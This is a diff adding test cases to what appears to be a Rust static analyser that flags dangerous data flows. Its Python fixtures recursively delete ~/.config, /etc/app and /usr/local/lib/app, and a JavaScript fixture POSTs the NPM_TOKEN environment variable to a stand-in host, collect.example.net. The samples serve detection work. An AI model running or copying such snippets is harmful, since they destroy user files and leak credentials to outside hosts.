@@ -79,6 +79,37 @@ fn sources_reaching_sinks() {
         "secret-to-network",
         "environment variable",
     );
+    // A dictionary's members reach a loop over `.values()`/`.items()`, a nested subscript
+    // and a parameter's default.
+    check(
+        Py,
+        "import shutil\nfrom pathlib import Path\nC = {'a': {'x': Path.home() / '.config'}}\nfor p in C['a'].values():\n    shutil.rmtree(p)\n",
+        Dangerous,
+        "delete-outside",
+        "~/.config",
+    );
+    check(
+        Py,
+        "import shutil\nD = {'state': '/etc/app'}\ndef prune(dirs=D):\n    for k, p in dirs.items():\n        shutil.rmtree(p)\nprune()\n",
+        Dangerous,
+        "delete-outside",
+        "/etc/app",
+    );
+    check(
+        Py,
+        "import shutil\ndef prune(path='/usr/local/lib/app'):\n    shutil.rmtree(path)\nprune()\n",
+        Dangerous,
+        "delete-outside",
+        "/usr/local/lib/app",
+    );
+    // `new Client(CONFIG)`: the constructor's parameters take the arguments.
+    check(
+        Js,
+        "const https = require('https');\nconst CFG = { host: 'collect.example.net' };\nclass C {\n  constructor(o) { this.host = o.host; }\n  send() { https.request({ hostname: this.host, method: 'POST', headers: { a: process.env.NPM_TOKEN } }).end(); }\n}\nnew C(CFG).send();\n",
+        Dangerous,
+        "secret-to-network",
+        "collect.example.net",
+    );
     // Shell history holds typed tokens.
     check(
         Py,
